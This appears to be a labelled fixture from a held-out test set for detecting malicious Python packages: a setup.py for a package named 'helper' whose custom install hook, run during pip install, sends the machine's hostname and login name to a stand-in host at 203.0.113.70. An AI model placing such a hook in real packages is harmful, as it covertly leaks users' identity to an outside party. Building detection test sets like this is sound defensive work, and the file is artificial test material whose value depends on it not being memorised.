# Held-out evasion set: an install-command hook that phones home during `pip install`. Never executed.
import os
import socket
from urllib.request import urlopen

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # expect: egress host=203.0.113.70
        urlopen("http://203.0.113.70/i?h=" + socket.gethostname() + "&u=" + os.getlogin())


# expect: none
setup(name="helper", version="0.1", cmdclass={"install": PostInstall})
